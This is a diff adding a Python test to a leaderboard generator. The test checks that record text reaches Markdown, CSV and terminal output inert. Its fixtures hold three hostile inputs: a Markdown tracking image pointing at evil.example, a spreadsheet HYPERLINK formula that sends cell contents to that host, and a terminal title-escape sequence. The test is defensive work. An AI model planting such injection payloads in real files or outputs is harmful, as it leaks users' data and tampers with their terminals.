@@ -302,3 +302,20 @@ def test_one_setting_is_one_row_whatever_the_order_of_its_parameters():
     read_back = record("magnitude", {"scope": "global", "sparsity": 0.5}, 1, 0.98, 500)
     table, _ = board.table([fresh, read_back])
     assert list(table.seeds) == [2] and list(table.setting) == ["scope=global, sparsity=0.5"]
+
+
+def test_record_text_makes_no_link_image_escape_sequence_or_spreadsheet_formula(tmp_path):
+    """Text from records reaches the Markdown, the CSV and the terminal: a parameter that is a
+    Markdown image, a device name that is a spreadsheet formula and one that retitles a terminal
+    arrive as inert text (found by a hostile-input audit)."""
+    image = "![x](https://evil.example/track.png)"
+    recs = [record("magnitude", {"sparsity": 0.5, "scope": image}, s, 0.97, 500) for s in (0, 1)]
+    recs[0]["env"] = {**recs[0]["env"], "device_name": '=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    recs[1]["env"] = {**recs[1]["env"], "device_name": "\x1b]0;PWNED\x07Evil CPU"}
+    write_records(tmp_path, recs)
+    leaderboard.write(tmp_path, "mlp")
+    md, csv = (tmp_path / "mlp" / "leaderboard.md").read_text(), (tmp_path / "mlp" / "leaderboard.csv").read_text()
+    assert image not in md and "!\\[x\\](https://evil.example/track.png)" in md
+    assert "\x1b" not in md + csv and "?]0;PWNED?Evil CPU" in csv
+    assert ",'=HYPERLINK(" in csv.replace('"', "") and ",=HYPERLINK" not in csv.replace('"', "")
+    assert "\x1b" not in render.terminal(recs, 400, {})
